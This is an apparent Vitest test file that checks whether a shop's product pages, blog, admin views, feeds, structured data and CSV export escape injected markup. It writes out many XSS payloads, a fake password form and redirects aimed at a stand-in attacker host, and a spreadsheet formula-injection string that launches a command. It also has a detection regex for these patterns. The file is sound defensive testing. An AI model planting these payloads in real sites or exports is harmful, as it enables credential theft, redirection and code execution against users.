import { expect, test } from "vitest";
import { adminPage } from "../../form-of.ts";
import { productForm, send } from "../admin/product-form.ts";
import { ask, sharedAdmin, textAt } from "../ask.ts";
import { postForm, postsAdmin } from "../post-form.ts";

// What an owner's account writes (or somebody who took it over) is text everywhere: in pages, data, feeds,
// tables, scripts.

const evil = `</script><script>alert(1)</script>"'><svg/onload=alert(2)>]]>&lt;b&gt;\u2028<!--`;
const richEvil = [
  '<p onclick="alert(1)">one</p><script>alert(2)</script><style>*{display:none}</style>',
  '<a href="javascript:alert(3)">two</a><a href=" &#x6a;avascript:alert(4)">three</a><a href="data:text/html,x">four</a>',
  '<img src="x" onerror="alert(5)"><img src="data:image/svg+xml,<svg onload=alert(6)>"><iframe srcdoc="<script>alert(7)</script>"></iframe>',
  '<svg><a xlink:href="javascript:alert(8)"><text>five</text></a></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(9)>',
  '<form action="https://evil.example"><input name="password"></form><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(10)>"></noscript><template><script>alert(11)</script></template>',
].join("\n");

const { cookie: admin } = await sharedAdmin();
const bag = productForm({
  name: `Bag ${evil}`,
  description: richEvil,
  story: evil,
  features: `${evil},b`,
  material: evil,
  artisan: "",
  metaTitle: "Bag <script>",
  metaDescription: `Bag "><script>alert(1)</script>`,
  ogTitle: "</title><script>alert(1)</script>",
  ...{ seoKeywords: evil, edition: "x<script>", featured: "true" },
});
const told = await send(`${adminPage}`, admin, bag);
expect([told.status, told.status === 200 ? "" : await told.text()]).toEqual([200, ""]);
const product = { slug: String(bag.get("slug")) };
const story = postForm({
  title: `Story ${evil}`,
  content: richEvil,
  excerpt: evil.slice(0, 90),
  author: "A <script>",
  authorBio: evil,
  category: "C<script>",
});
const kept = await send(postsAdmin, admin, story);
expect([kept.status, kept.status === 200 ? "" : await kept.text()]).toEqual([200, ""]);
const post = { slug: String(story.get("slug")) };

const marks =
  /<script>alert|<svg\/onload|onerror=|onclick=|<iframe|<base |http-equiv="refresh"|href="\s*javascript:|href="data:|<form action="https:\/\/evil/i;

test.each([
  ["the product's", () => `/shop/${product.slug}`],
  ["the catalogue's", () => "/shop?sort=newest"],
  ["a search's", () => `/shop?q=${encodeURIComponent(evil.slice(0, 60))}`],
  ["the post's", () => `/blog/${post.slug}`],
  ["the blog's", () => "/blog?show=60"],
  ["the bulk quote's", () => `/shop/${product.slug}/quote`],
])("%s, markup is text", async (_what, path) => {
  const html = await textAt(path());
  const shown = html.replaceAll(/<script type="application\/ld\+json">.*?<\/script>/gs, "");
  expect(marks.exec(shown)?.[0]).toBeUndefined();
});

test("the admin pages', too", async () => {
  for (const path of [adminPage, postsAdmin, "/admin/dashboard/overview", `${adminPage}?q=Bag`])
    expect([path, marks.exec(await textAt(path, admin))?.[0]]).toEqual([path, undefined]);
});

test("structured data stays one script, and reads back as it was written", async () => {
  for (const path of [`/shop/${product.slug}`, `/blog/${post.slug}`]) {
    const html = await textAt(path);
    const scripts = [...html.matchAll(/<script type="application\/ld\+json">(.*?)<\/script>/gs)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, text = ""] of scripts) {
      expect(text).not.toContain("<");
      expect(JSON.parse(text)).toHaveProperty("@context", "https://schema.org");
    }
  }
});

test("the feed and the sitemap stay well-formed", async () => {
  for (const path of ["/blog/feed.xml", "/sitemap.xml", "/feeds/google.xml"]) {
    const xml = await textAt(path);
    expect(xml).not.toMatch(/<script|<svg|<b>|]]>|&(?!(amp|lt|gt|quot|apos);)/);
    const open = [...xml.matchAll(/<([a-z][\w:.]*)(?:\s[^>]*[^/])?>/g)].length;
    expect(open).toBe([...xml.matchAll(/<\/[a-z][\w:.]*>/g)].length);
  }
});

test("data requests are no documents, and can't be read as scripts", async () => {
  const answer = await ask(`/shop/${product.slug}.data`);
  expect(answer.headers.get("content-type")).toContain("application/json");
  expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
});

test("the table of products quotes it, and begins no cell like a formula", async () => {
  const bag = productForm({
    name: "=cmd|' /C calc'!A0",
    material: "@SUM(1)",
    size: "+1",
    weight: "-1",
    handles: "\t=1",
  });
  expect((await send(adminPage, admin, bag)).status).toBe(200);
  const csv = await textAt("/admin/dashboard/products/export", admin);
  const line = csv.split("\r\n").find((each) => each.includes(String(bag.get("slug")))) ?? "";
  expect(line).toContain("'=cmd|");
  expect(line).not.toMatch(/(^|,)"?[=+@]/);
});
